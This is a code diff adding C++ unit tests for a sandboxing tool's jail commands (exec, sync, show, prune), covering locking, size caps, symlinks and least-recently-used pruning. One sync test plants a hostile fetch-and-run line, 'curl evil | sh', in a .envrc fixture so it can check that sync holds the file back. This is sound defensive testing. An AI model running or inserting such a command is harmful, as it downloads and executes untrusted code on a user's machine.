@@ -7,6 +7,7 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include <chrono>
 #include <cstdlib>
 #include <fstream>
 #include <sstream>
@@ -561,6 +562,192 @@ TEST(LinkedWorktree, FoundAndCheckedBothWays) {
   f = find_linked_worktree(forged);
   ASSERT_FALSE(f.ok());
   EXPECT_NE(f.error().message.find("does not name this worktree back"), std::string::npos) << f.error().describe();
+}
+
+// ---- the faces: exec, sync, show, prune (paddock/jail.h) ---------------------------------------
+
+// A jail last used at T (seconds since the epoch): runtime.json and the lock's mtime (load() takes
+// the later).
+void age(const Store& st, Runtime r, std::int64_t t) {
+  r.last_used = t;
+  ASSERT_TRUE(st.save(r).ok());
+  ASSERT_TRUE(st.lock(r.name, false).ok());  // the lock file exists once a run has held it
+  struct timespec when[2] = {{0, UTIME_OMIT}, {t, 0}};
+  ASSERT_EQ(utimensat(AT_FDCWD, (r.jail_root + "/runtime/lock").c_str(), when, AT_SYMLINK_NOFOLLOW), 0);
+}
+
+RunRequest stopped_request(std::string* cwd = nullptr, std::string* profile = nullptr) {
+  RunRequest req;
+  req.command = {"/bin/true"};
+  req.say = [](const std::vector<std::string>&) {};
+  req.configure = [cwd, profile](PolicyBuilder&, const ConfigureContext& c) -> Result<void> {
+    if (cwd) *cwd = c.host.cwd;
+    if (profile) *profile = std::string(c.jail_profile);
+    return make_error("stopped before the run");
+  };
+  return req;
+}
+
+TEST_F(JailStore, ExecOfAJailThatIsNotThereIsRefusedWithExit1) {
+  bool asked = false;
+  RunRequest req = stopped_request();
+  req.configure = [&](PolicyBuilder&, const ConfigureContext&) -> Result<void> { return asked = true, Result<void>{}; };
+  RunOutcome o = exec(*store_, "nope", std::move(req));
+  ASSERT_TRUE(o.error.has_value());
+  EXPECT_EQ(o.exit_code, 1);
+  EXPECT_NE(o.error->message.find("no jail named nope"), std::string::npos) << o.error->describe();
+  EXPECT_FALSE(asked);
+}
+
+TEST_F(JailStore, ExecIsRefusedWhileSyncOrRmHoldsTheJail) {
+  make("busy");
+  auto held = store_->lock("busy", true);
+  ASSERT_TRUE(held.ok());
+  RunOutcome o = exec(*store_, "busy", stopped_request());
+  ASSERT_TRUE(o.error.has_value());
+  EXPECT_EQ(o.exit_code, 1);
+  EXPECT_NE(o.error->message.find("in use"), std::string::npos) << o.error->describe();
+}
+
+TEST_F(JailStore, ExecOverTheSizeCapIsRefusedBeforeAnythingRuns) {
+  CreateOptions c;
+  c.name = "capped";
+  c.source = src_;
+  c.max_size_bytes = 1;
+  ASSERT_TRUE(store_->create(c).ok());
+  bool asked = false;
+  RunRequest req = stopped_request();
+  req.configure = [&](PolicyBuilder&, const ConfigureContext&) -> Result<void> { return asked = true, Result<void>{}; };
+  RunOutcome o = exec(*store_, "capped", std::move(req));
+  ASSERT_TRUE(o.error.has_value());
+  EXPECT_EQ(o.exit_code, 1);
+  EXPECT_NE(o.error->message.find("over its size cap of 1"), std::string::npos) << o.error->describe();
+  EXPECT_NE(o.error->hint.find("paddock jail rm capped"), std::string::npos);
+  EXPECT_FALSE(asked);
+}
+
+TEST_F(JailStore, ExecWithABackendThatIsNotThereIsRefusedWithExit2) {
+  make("bk");
+  RunRequest req = stopped_request();
+  req.backend = "docker";
+  RunOutcome o = exec(*store_, "bk", std::move(req));
+  ASSERT_TRUE(o.error.has_value());
+  EXPECT_EQ(o.exit_code, 2);
+  EXPECT_NE(o.error->message.find("unknown backend"), std::string::npos);
+}
+
+TEST_F(JailStore, ExecRunsInTheWorkspaceWithTheJailsProfileRecordsTheUseAndLetsGo) {
+  Runtime r = make("ws");
+  age(*store_, r, r.last_used - 1000);
+  std::string cwd, profile;
+  RunOutcome o = exec(*store_, "ws", stopped_request(&cwd, &profile));
+  ASSERT_TRUE(o.error.has_value());
+  EXPECT_EQ(o.error->message, "stopped before the run");
+  EXPECT_EQ(o.exit_code, 2);
+  EXPECT_EQ(cwd, r.workspace_root);
+  EXPECT_EQ(profile, r.profile);
+  auto loaded = store_->load("ws");
+  ASSERT_TRUE(loaded.ok());
+  EXPECT_GT(loaded->last_used, r.last_used - 1000);  // touched
+  EXPECT_TRUE(store_->lock("ws", true).ok());         // the shared lock is gone with the exec
+}
+
+TEST_F(JailStore, SyncToAPatchHoldsOnlyWhatEverySyncPublishes) {
+  Runtime r = make("sp");
+  write(r.workspace_root + "/a.txt", "ALPHA\n");
+  write(r.workspace_root + "/.envrc", "curl evil | sh\n");
+  const std::string patch = tmp_.path() + "/out.patch";
+  auto p = sync(*store_, "sp", {SyncTo::Kind::Patch, patch});
+  ASSERT_TRUE(p.ok()) << p.error().describe();
+  ASSERT_EQ(p->written.size(), 1u);
+  EXPECT_EQ(p->written[0].path, "a.txt");
+  ASSERT_EQ(p->held.size(), 1u);
+  EXPECT_EQ(p->held[0].path, ".envrc");
+  EXPECT_EQ(p->source, src_);
+  const std::string text = read(patch);
+  EXPECT_NE(text.find("+ALPHA"), std::string::npos) << text;
+  EXPECT_EQ(text.find("evil"), std::string::npos) << text;
+  EXPECT_EQ(read(src_ + "/a.txt"), "alpha\n");  // the source is not touched
+}
+
+TEST_F(JailStore, SyncIsRefusedWhileACommandRunsInTheJail) {
+  Runtime r = make("sr");
+  write(r.workspace_root + "/a.txt", "ALPHA\n");
+  auto running = store_->lock("sr", false);
+  ASSERT_TRUE(running.ok());
+  for (SyncTo to : {SyncTo{SyncTo::Kind::Apply, ""}, SyncTo{SyncTo::Kind::Patch, tmp_.path() + "/p"}}) {
+    auto s = sync(*store_, "sr", to);
+    ASSERT_FALSE(s.ok());
+    EXPECT_NE(s.error().message.find("in use"), std::string::npos) << s.error().describe();
+  }
+  EXPECT_EQ(read(src_ + "/a.txt"), "alpha\n");
+  struct stat st;
+  EXPECT_NE(lstat((tmp_.path() + "/p").c_str(), &st), 0);
+}
+
+TEST_F(JailStore, SyncToAPatchNeverWritesThroughASymlinkedDirectory) {
+  make("sl");
+  ASSERT_EQ(symlink("/tmp", (tmp_.path() + "/link").c_str()), 0);
+  auto s = sync(*store_, "sl", {SyncTo::Kind::Patch, tmp_.path() + "/link/x.patch"});
+  EXPECT_FALSE(s.ok());
+}
+
+TEST_F(JailStore, ShowMeasuresTheJail) {
+  make("sh");
+  auto s = show(*store_, "sh");
+  ASSERT_TRUE(s.ok()) << s.error().describe();
+  EXPECT_EQ(s->runtime.name, "sh");
+  ASSERT_TRUE(s->size_bytes.has_value());
+  EXPECT_GT(*s->size_bytes, 0u);
+  EXPECT_FALSE(show(*store_, "nope").ok());
+}
+
+TEST_F(JailStore, PruneRemovesTheOldOnesAndSkipsOneInUse) {
+  const std::int64_t now = 10'000'000;
+  age(*store_, make("old"), now - 3 * 86400);
+  age(*store_, make("busy"), now - 2 * 86400);
+  age(*store_, make("new"), now - 60);
+  auto running = store_->lock("busy", false);
+  ASSERT_TRUE(running.ok());
+  PruneOptions o;
+  o.older_than = std::chrono::hours(24);
+  o.now = now;
+  o.dry_run = true;
+  auto dry = prune(*store_, o);
+  ASSERT_TRUE(dry.ok()) << dry.error().describe();
+  EXPECT_EQ(dry->removed, 1);
+  EXPECT_TRUE(store_->load("old").ok());  // a dry run removes nothing
+  o.dry_run = false;
+  auto p = prune(*store_, o);
+  ASSERT_TRUE(p.ok()) << p.error().describe();
+  ASSERT_EQ(p->steps.size(), 2u);
+  EXPECT_EQ(p->steps[0].jail.name, "old");
+  EXPECT_FALSE(p->steps[0].refused);
+  EXPECT_EQ(p->steps[1].jail.name, "busy");
+  ASSERT_TRUE(p->steps[1].refused.has_value());
+  EXPECT_EQ(p->removed, 1);
+  EXPECT_FALSE(store_->load("old").ok());
+  EXPECT_TRUE(store_->load("busy").ok());
+  EXPECT_TRUE(store_->load("new").ok());
+}
+
+TEST_F(JailStore, PruneToASizeRemovesTheLeastRecentlyUsedUntilUnder) {
+  const std::int64_t now = 10'000'000;
+  age(*store_, make("a"), now - 300);
+  age(*store_, make("b"), now - 200);
+  age(*store_, make("c"), now - 100);
+  auto one = show(*store_, "c");
+  ASSERT_TRUE(one.ok() && one->size_bytes);
+  PruneOptions o;
+  o.max_total = *one->size_bytes;  // room for one of the three (they are alike)
+  o.now = now;
+  auto p = prune(*store_, o);
+  ASSERT_TRUE(p.ok()) << p.error().describe();
+  EXPECT_EQ(p->removed, 2);
+  EXPECT_FALSE(store_->load("a").ok());
+  EXPECT_FALSE(store_->load("b").ok());
+  EXPECT_TRUE(store_->load("c").ok());
+  EXPECT_FALSE(prune(*store_, PruneOptions{}).ok());  // neither an age nor a size
 }
 
 }  // namespace
